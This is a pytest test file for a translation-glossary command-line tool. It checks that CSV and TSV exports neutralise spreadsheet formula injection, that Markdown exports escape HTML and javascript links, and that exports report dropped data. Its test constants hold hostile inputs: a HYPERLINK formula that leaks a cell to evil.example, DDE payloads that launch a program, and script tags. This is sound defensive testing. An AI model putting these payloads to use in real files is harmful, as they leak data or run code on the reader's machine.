"""Hostile text in exports: no CSV or TSV cell can start a spreadsheet formula (OWASP), Markdown carries
no HTML or script links, and an export says what its format dropped."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.environment import cli

DOC = "spc_shixin_list_provisions_2013"
FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TERM = "公式注入"  # no bundled entry has it: a user entry of its own
SCRIPT_NOTE = "See <script>alert('x')</script> and [this](javascript:alert(1)) — **really**"


@pytest.fixture
def hostile(data_dir: Path) -> Path:
    """A library whose annotations and user glossary entry hold formulas, HTML and a control character."""
    text = json.loads(cli(data_dir, "show", DOC, "--json")[1])["segments"]
    zh = "\n".join(s["zh"] for s in text)
    start = zh.index("失信被执行人")
    for formula in FORMULAS:
        code, _out, err = cli(data_dir, "annotate", DOC, "--start", str(start), "--end", str(start + 6),
                              "--note", formula, "--tag", formula, "--term", "shixin-bei-zhixing-ren",
                              "--rendering", formula, "--why", formula)
        assert code == 0, err
    code, _out, err = cli(data_dir, "annotate", DOC, "--start", str(start), "--end", str(start + 6),
                          "--note", SCRIPT_NOTE, "--tag", "<b>tag</b>", "--term", "shixin-bei-zhixing-ren")
    assert code == 0, err
    code, _out, err = cli(data_dir, "glossary", "add", TERM, *[x for f in FORMULAS for x in ("--rendering", f)],
                          "--note", "bell\x07 and " + SCRIPT_NOTE)
    assert code == 0, err
    return data_dir


def _cells(path: Path, delimiter: str = ",") -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    if delimiter == "\t":
        return [c for line in text.splitlines() for c in line.split("\t")]
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


@pytest.mark.parametrize(("args", "inert"), [
    (["annotations", "export", "--format", "csv", "-o", "{out}"], 4 * 4),  # note, tags, rendering, why
    (["glossary", "export", "--format", "csv", "--only-user", "-o", "{out}"], 2),  # preferred, accepted list
    (["glossary", "export", "--format", "csv", "--only-annotated", "-o", "{out}"], 1),  # the notes cell
    (["glossary", "export", "--format", "tsv", "--only-user", "-o", "{out}"], 4),  # a target per line
])
def test_no_exported_cell_starts_a_formula(hostile: Path, tmp_path: Path, args: list[str], inert: int) -> None:
    out = tmp_path / "export.txt"
    code, _o, err = cli(hostile, *[a.replace("{out}", str(out)) for a in args])
    assert code == 0, err
    cells = _cells(out, "\t" if "tsv" in args else ",")
    assert [c for c in cells if c.startswith(TRIGGERS)] == []
    assert sum(1 for c in cells if c.startswith("'") and c[1:].startswith(TRIGGERS)) >= inert  # there, inert
    if "csv" in args:  # every cell quoted, so a spreadsheet splitting on ';' cannot start a new cell in one
        body = out.read_text(encoding="utf-8-sig")
        assert body.startswith('"') and '","' in body


def test_qa_and_concordance_csv_are_inert_too(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "qa.csv"
    code, _o, err = cli(hostile, "qa", DOC, "--format", "csv", "-o", str(out))
    assert code in (0, 1), err
    assert [c for c in _cells(out) if c.startswith(TRIGGERS)] == []
    code, text, err = cli(hostile, "concordance", "失信被执行人", "--csv")
    assert code == 0, err
    assert [c for row in csv.reader(io.StringIO(text)) for c in row if c.startswith(TRIGGERS)] == []


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_the_apostrophe_does_not_survive_a_round_trip(hostile: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"mine.{fmt}"
    assert cli(hostile, "glossary", "export", "--format", fmt, "--only-user", "-o", str(out))[0] == 0
    other = tmp_path / "other"
    import shutil

    shutil.copytree(hostile, other)
    user_id = json.loads(cli(other, "glossary", "search", TERM, "--json")[1])[0]["id"]
    assert cli(other, "glossary", "delete", user_id)[0] == 0
    code, report, err = cli(other, "glossary", "import", str(out), "--json")
    assert code == 0, err
    code, found, err = cli(other, "glossary", "search", TERM, "--json")
    texts = {r["text"] for e in json.loads(found) for r in e["renderings"]}
    assert set(FORMULAS[:4]) <= texts


def test_markdown_exports_carry_no_html_or_script_links(hostile: Path, tmp_path: Path) -> None:
    for args in (["annotations", "export", "--format", "md"], ["glossary", "export", "--format", "md",
                                                               "--only-annotated"]):
        out = tmp_path / "notes.md"
        code, _o, err = cli(hostile, *args, "-o", str(out))
        assert code == 0, err
        md = out.read_text(encoding="utf-8")
        assert "<script>" not in md and "&lt;script&gt;" in md
        assert "](javascript:" not in md and "]\\(javascript:" in md
        assert "**really**" in md  # the note's own Markdown is kept
    assert "<b>" not in (tmp_path / "notes.md").read_text(encoding="utf-8")


def test_exports_say_what_their_format_dropped(hostile: Path, tmp_path: Path) -> None:
    code, _o, err = cli(hostile, "glossary", "export", "--format", "tbx", "--only-user", "-o", str(tmp_path / "g.tbx"))
    assert code == 0 and "tbx: removed 1 control character from 1 entry, as XML cannot hold them" in err, err
    assert "\x07" not in (tmp_path / "g.tbx").read_text(encoding="utf-8")
    code, _o, err = cli(hostile, "glossary", "export", "--format", "tsv", "-o", str(tmp_path / "g.tsv"))
    assert code == 0 and "tsv: left out, as an OmegaT glossary has only term, rendering and comment columns:" in err
    assert "notes (" in err and "disputes (" in err
    code, _o, err = cli(hostile, "glossary", "export", "--format", "csv", "-o", str(tmp_path / "g.csv"))
    assert code == 0 and "csv: left out, as the CSV has no columns for them: " in err and "notes (" in err
    code, _o, err = cli(hostile, "glossary", "export", "--format", "json", "-o", str(tmp_path / "g.json"))
    assert code == 0 and err.count("\n") == 1  # JSON holds everything: only "wrote N entries"
